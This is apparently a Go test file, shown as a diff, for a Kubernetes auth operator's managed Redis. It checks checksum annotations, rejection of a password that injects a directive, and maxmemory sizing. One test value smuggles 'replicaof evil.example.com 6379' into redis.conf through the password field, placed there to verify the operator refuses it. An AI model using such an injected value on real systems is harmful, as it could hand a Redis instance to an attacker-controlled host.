@@ -1,0 +1,85 @@
+package controllers
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"strings"
+	"testing"
+
+	appsv1 "k8s.io/api/apps/v1"
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	clocktesting "k8s.io/utils/clock/testing"
+
+	authv1alpha1 "github.com/hiringo/auth-operator/api/v1alpha1"
+)
+
+// TestManagedRedis_PasswordIsValidatedAndNeverDigested: the pod templates carry digests of
+// the Secret's UID and resourceVersion, not of the password or redis.conf; a hand-edited
+// password that would inject a directive into redis.conf is refused with a condition and an
+// event that do not show it, and nothing is written.
+func TestManagedRedis_PasswordIsValidatedAndNeverDigested(t *testing.T) {
+	ns := newNamespace(t)
+	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
+	createAuthService(t, ns, "auth", nil)
+	reconcileOnce(t, r, ns, "auth")
+	secret := get(t, ns, "auth-redis", &corev1.Secret{})
+	password := string(secret.Data[RedisPasswordKey])
+	sts := get(t, ns, "auth-redis", &appsv1.StatefulSet{})
+	for name, got := range map[string]string{
+		"Redis config":         sts.Spec.Template.Annotations[RedisConfigChecksumAnnotation],
+		"auth-server password": get(t, ns, "auth-authserver", &appsv1.Deployment{}).Spec.Template.Annotations[RedisPasswordChecksumAnnotation],
+	} {
+		for what, digest := range map[string][]byte{"password": []byte(password), "redis.conf": secret.Data[RedisConfigKey]} {
+			sum := sha256.Sum256(digest)
+			if got == hex.EncodeToString(sum[:]) {
+				t.Errorf("the %s annotation is the SHA-256 of the %s", name, what)
+			}
+		}
+		if got != secretVersion(secret) {
+			t.Errorf("the %s annotation = %q, want the digest of the Secret's UID and resourceVersion", name, got)
+		}
+	}
+
+	injected := password + "\nreplicaof evil.example.com 6379"
+	update(t, secret, func(s *corev1.Secret) { s.Data[RedisPasswordKey] = []byte(injected) })
+	if _, err := r.Reconcile(context.Background(), request(ns, "auth")); err != nil {
+		t.Fatalf("Reconcile: %v", err)
+	}
+	as := get(t, ns, "auth", &authv1alpha1.AuthService{})
+	c := condition(as, authv1alpha1.RedisReadyCondition)
+	if c.Status != metav1.ConditionFalse || c.Reason != authv1alpha1.ReasonRedisPasswordInvalid || !strings.Contains(c.Message, "Secret auth-redis key \"password\"") {
+		t.Errorf("RedisReady = %s %s %q", c.Status, c.Reason, c.Message)
+	}
+	if strings.Contains(c.Message, password[:16]) || strings.Contains(c.Message, "evil") {
+		t.Errorf("the condition shows the password: %q", c.Message)
+	}
+	after := get(t, ns, "auth-redis", &corev1.Secret{})
+	if conf := string(after.Data[RedisConfigKey]); strings.Contains(conf, "replicaof") || !strings.Contains(conf, "requirepass "+password+"\n") {
+		t.Errorf("redis.conf was rewritten: %q", conf)
+	}
+	if got := get(t, ns, "auth-redis", &appsv1.StatefulSet{}); got.Generation != sts.Generation {
+		t.Error("the Redis StatefulSet changed although the password was refused")
+	}
+	waitEvent(t, ns, "auth", corev1.EventTypeWarning, authv1alpha1.ReasonRedisPasswordInvalid, "auth-redis")
+}
+
+// TestManagedRedis_MaxMemoryFollowsTheMemoryLimit: redis.conf caps the data at a share of
+// the container's memory limit (internal/redisconf's test shows a full Redis then refuses a
+// logout with 503 and stays up).
+func TestManagedRedis_MaxMemoryFollowsTheMemoryLimit(t *testing.T) {
+	ns := newNamespace(t)
+	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
+	createAuthService(t, ns, "auth", func(as *authv1alpha1.AuthService) {
+		as.Spec.Redis.Managed = &authv1alpha1.ManagedRedisSpec{Resources: corev1.ResourceRequirements{
+			Limits: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("64Mi")},
+		}}
+	})
+	reconcileOnce(t, r, ns, "auth")
+	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[RedisConfigKey])
+	if !strings.Contains(conf, "\nmaxmemory 40265280\n") || !strings.Contains(conf, "maxmemory-policy noeviction\n") {
+		t.Errorf("redis.conf = %q, want maxmemory 60%% of 64Mi and noeviction", conf)
+	}
+}
